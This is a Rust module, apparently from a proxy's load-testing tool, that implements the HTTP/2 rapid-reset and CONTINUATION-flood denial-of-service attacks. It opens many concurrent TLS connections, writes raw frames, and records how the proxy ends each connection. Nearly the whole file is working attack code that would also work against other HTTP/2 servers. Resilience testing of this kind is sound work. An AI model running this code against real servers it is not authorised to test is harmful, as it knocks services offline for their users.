//! The two HTTP/2 attacks on bumped connections (CONNECT, TLS with ALPN h2 to the proxy):
//!
//! - rapid reset (CVE-2023-44487): HEADERS then RST_STREAM in a tight loop; the h2 client
//!   sends the RST_STREAM(CANCEL) itself when a request's `ResponseFuture` is dropped.
//! - CONTINUATION flood (VU#421644): a HEADERS frame without END_HEADERS, then
//!   CONTINUATION frames one after the other, written as raw frames over TLS, until the
//!   proxy answers, closes, or `--continuation-frames` were sent.
//!
//! A connection's outcome is how it ended (`GOAWAY <reason>`, closed, still open at the
//! end); the streams or frames it carried are summed in the notes.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use h2::client::SendRequest;
use http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf};
use tokio::net::TcpStream;
use tokio::sync::oneshot;
use tokio_rustls::client::TlsStream;

use super::cli::FloodArgs;
use super::outcomes::{KindReport, Outcomes};
use super::wire::{h2_label, label, within, Wire, STEP_TIMEOUT};
use super::PAUSE;
use crate::loadgen::error::Error;

/// How long the end of a connection is waited for once the attack on it stops.
const END_WAIT: Duration = Duration::from_secs(10);
const OPEN_AT_END: &str = "still open at the end of the run";

// ------------------------------------------------------------------------ rapid reset

/// Runs the rapid-reset workers to the end of the run.
pub async fn rapid_reset(wire: Wire, args: &FloodArgs) -> KindReport {
    let outcomes = Outcomes::default();
    let streams = Arc::new(AtomicU64::new(0));
    let mut workers = tokio::task::JoinSet::new();
    for _ in 0..args.rapid_reset {
        workers.spawn(reset_worker(
            wire.clone(),
            outcomes.clone(),
            streams.clone(),
        ));
    }
    while workers.join_next().await.is_some() {}
    outcomes.note(format!(
        "{} connections at once; {} streams opened and reset in all; answer time = how long a connection lasted",
        args.rapid_reset,
        streams.load(Ordering::Relaxed)
    ));
    outcomes.report("HTTP/2 rapid reset (connections)", None)
}

async fn reset_worker(wire: Wire, outcomes: Outcomes, streams: Arc<AtomicU64>) {
    while wire.running() {
        let start = Instant::now();
        let outcome = match open_h2(&wire).await {
            Ok((send, driver)) => reset_loop(&wire, send, driver, &streams).await,
            Err(err) => label(&err),
        };
        let open_at_end = outcome == OPEN_AT_END;
        outcomes.record(outcome, start.elapsed());
        if !open_at_end {
            tokio::time::sleep(PAUSE.min(wire.left())).await;
        }
    }
}

type Driver = tokio::task::JoinHandle<Result<(), h2::Error>>;

async fn open_h2(wire: &Wire) -> Result<(SendRequest<Bytes>, Driver), Error> {
    let tls = wire.tls(wire.origin(), true, None).await?;
    let (send, connection) = within(STEP_TIMEOUT, h2::client::handshake(tls)).await??;
    Ok((send, tokio::spawn(connection)))
}

/// HEADERS then RST_STREAM until the connection fails or the run ends.
async fn reset_loop(
    wire: &Wire,
    mut send: SendRequest<Bytes>,
    driver: Driver,
    streams: &AtomicU64,
) -> String {
    let uri = format!("https://{}/small", wire.origin().authority());
    let mut sent = 0u64;
    let failure = loop {
        if !wire.running() {
            break None;
        }
        match within(STEP_TIMEOUT, std::future::poll_fn(|cx| send.poll_ready(cx))).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => break Some(h2_label(&e)),
            Err(e) => break Some(label(&e)),
        }
        let mut request = Request::new(());
        *request.uri_mut() = uri.parse().unwrap_or_default();
        match send.send_request(request, true) {
            // Dropping the response future resets the stream.
            Ok((response, _)) => drop(response),
            Err(e) => break Some(h2_label(&e)),
        }
        sent += 1;
        if sent.is_multiple_of(16) {
            // Let the connection task write the frames (and read the proxy's).
            tokio::task::yield_now().await;
        }
    };
    streams.fetch_add(sent, Ordering::Relaxed);
    drop(send);
    let Some(failure) = failure else {
        driver.abort();
        return OPEN_AT_END.to_owned();
    };
    // The connection task holds the reason the proxy gave (a GOAWAY).
    match tokio::time::timeout(END_WAIT, driver).await {
        Ok(Ok(Err(e))) => h2_label(&e),
        _ => failure,
    }
}

// ------------------------------------------------------------------- CONTINUATION flood

/// HTTP/2 frame types and flags used here (RFC 9113 §6).
const HEADERS: u8 = 0x1;
const SETTINGS: u8 = 0x4;
const RST_STREAM: u8 = 0x3;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Runs the CONTINUATION-flood workers to the end of the run.
pub async fn continuation(wire: Wire, args: &FloodArgs) -> KindReport {
    let outcomes = Outcomes::default();
    let frames = Arc::new(AtomicU64::new(0));
    let mut workers = tokio::task::JoinSet::new();
    for _ in 0..args.continuation {
        workers.spawn(flood_worker(
            wire.clone(),
            args.continuation_frames,
            outcomes.clone(),
            frames.clone(),
        ));
    }
    while workers.join_next().await.is_some() {}
    outcomes.note(format!(
        "{} connections at once, at most {} CONTINUATION frames of {} bytes each; {} frames sent in all; answer time = how long a connection lasted",
        args.continuation,
        args.continuation_frames,
        continuation_payload().len(),
        frames.load(Ordering::Relaxed)
    ));
    outcomes.report("HTTP/2 CONTINUATION flood (connections)", None)
}

async fn flood_worker(wire: Wire, max_frames: u32, outcomes: Outcomes, frames: Arc<AtomicU64>) {
    while wire.running() {
        let start = Instant::now();
        let outcome = match wire.tls(wire.origin(), true, None).await {
            Ok(tls) if tls.get_ref().1.alpn_protocol() == Some(b"h2") => {
                flood(&wire, tls, max_frames, &frames).await
            }
            Ok(_) => "ALPN h2 not selected".to_owned(),
            Err(err) => label(&err),
        };
        let open_at_end = outcome == OPEN_AT_END;
        outcomes.record(outcome, start.elapsed());
        if !open_at_end {
            tokio::time::sleep(PAUSE.min(wire.left())).await;
        }
    }
}

/// The preface, SETTINGS, the ACK of the proxy's, HEADERS without END_HEADERS, then
/// CONTINUATION frames until the proxy reacts; returns how the connection ended.
async fn flood(
    wire: &Wire,
    tls: TlsStream<TcpStream>,
    max_frames: u32,
    frames: &AtomicU64,
) -> String {
    let (rd, mut wr) = tokio::io::split(tls);
    let (settings_seen, settings_rx) = oneshot::channel();
    let mut reader = tokio::spawn(read_frames(rd, settings_seen));
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    if wr.write_all(&start).await.is_err() {
        return "closed at the preface".to_owned();
    }
    if within(STEP_TIMEOUT, settings_rx).await.is_err() {
        return "no SETTINGS from the proxy".to_owned();
    }
    let mut opening = frame(SETTINGS, ACK, 0, &[]);
    opening.extend(frame(HEADERS, END_STREAM, 1, &headers_payload(wire)));
    if wr.write_all(&opening).await.is_err() {
        return "closed at HEADERS".to_owned();
    }
    let continuation = frame(CONTINUATION, 0, 1, &continuation_payload());
    let mut sent = 0;
    let mut stalled = false;
    while sent < max_frames && wire.running() && !reader.is_finished() {
        // A proxy that stops reading without closing must not hold the worker forever.
        let limit = STEP_TIMEOUT.min(wire.left() + Duration::from_secs(1));
        match within(limit, wr.write_all(&continuation)).await {
            Ok(Ok(())) => sent += 1,
            Ok(Err(_)) => break,
            Err(_) => {
                stalled = wire.running();
                break;
            }
        }
    }
    frames.fetch_add(u64::from(sent), Ordering::Relaxed);
    let wait = if wire.running() {
        END_WAIT
    } else {
        Duration::from_millis(100)
    };
    match tokio::time::timeout(wait, &mut reader).await {
        Ok(Ok(end)) => end,
        Ok(Err(_)) => "reader failed".to_owned(),
        Err(_) if !wire.running() => {
            reader.abort();
            OPEN_AT_END.to_owned()
        }
        Err(_) if stalled => {
            reader.abort();
            format!("stopped reading after {sent} frames, no answer")
        }
        Err(_) => {
            reader.abort();
            format!("all {sent} frames taken, no answer")
        }
    }
}

/// Reads the proxy's frames until it sends GOAWAY or RST_STREAM or closes; signals its
/// first SETTINGS.
async fn read_frames(
    mut rd: ReadHalf<TlsStream<TcpStream>>,
    settings_seen: oneshot::Sender<()>,
) -> String {
    let mut settings_seen = Some(settings_seen);
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    loop {
        while let Some((kind, flags, payload)) = next_frame(&mut buf) {
            match kind {
                GOAWAY => return format!("GOAWAY {}", reason(payload.get(4..8))),
                RST_STREAM => return format!("RST_STREAM {}", reason(payload.get(..4))),
                SETTINGS if flags & ACK == 0 => {
                    if let Some(seen) = settings_seen.take() {
                        let _ = seen.send(());
                    }
                }
                _ => {}
            }
        }
        match rd.read(&mut chunk).await {
            Ok(0) => return "closed without GOAWAY".to_owned(),
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) => return format!("read failed: {}", e.kind()),
        }
    }
}

/// Takes the first complete frame off `buf`: its type, flags and payload.
fn next_frame(buf: &mut Vec<u8>) -> Option<(u8, u8, Vec<u8>)> {
    let header = buf.get(..9)?;
    let len = usize::from(header[0]) << 16 | usize::from(header[1]) << 8 | usize::from(header[2]);
    let (kind, flags) = (header[3], header[4]);
    if buf.len() < 9 + len {
        return None;
    }
    let payload = buf[9..9 + len].to_vec();
    buf.drain(..9 + len);
    Some((kind, flags, payload))
}

/// The name of an HTTP/2 error code (4 bytes, big-endian).
fn reason(code: Option<&[u8]>) -> String {
    let code = code
        .and_then(|c| <[u8; 4]>::try_from(c).ok())
        .map_or(u32::MAX, u32::from_be_bytes);
    format!("{:?}", h2::Reason::from(code))
}

/// One frame: length, type, flags, stream id, payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// HPACK: `GET https://origin/` (static-table indices and one literal authority).
fn headers_payload(wire: &Wire) -> Vec<u8> {
    let authority = wire.origin().authority();
    let mut out = vec![0x82, 0x87, 0x84, 0x41];
    out.push(u8::try_from(authority.len()).unwrap_or(0) & 0x7f);
    out.extend_from_slice(authority.as_bytes());
    out
}

/// HPACK: eight literal headers without indexing, `x-flood: a…` of 100 bytes each.
fn continuation_payload() -> Vec<u8> {
    let mut field = vec![0x00, 7];
    field.extend_from_slice(b"x-flood");
    field.push(100);
    field.extend_from_slice(&[b'a'; 100]);
    field.repeat(8)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_written_and_read_back() {
        let mut buf = frame(GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 0xb]);
        buf.extend(frame(SETTINGS, ACK, 0, &[]));
        buf.extend_from_slice(&[0, 0]);
        let (kind, _, payload) = next_frame(&mut buf).unwrap();
        assert_eq!(kind, GOAWAY);
        assert_eq!(reason(payload.get(4..8)), "ENHANCE_YOUR_CALM");
        assert_eq!(next_frame(&mut buf), Some((SETTINGS, ACK, vec![])));
        assert_eq!(next_frame(&mut buf), None, "an incomplete header waits");
        assert_eq!(buf, [0, 0]);
    }

    #[test]
    fn a_continuation_payload_is_whole_header_fields() {
        let payload = continuation_payload();
        assert_eq!(payload.len(), 8 * 110);
        assert_eq!(&payload[..10], b"\x00\x07x-flood\x64");
    }
}
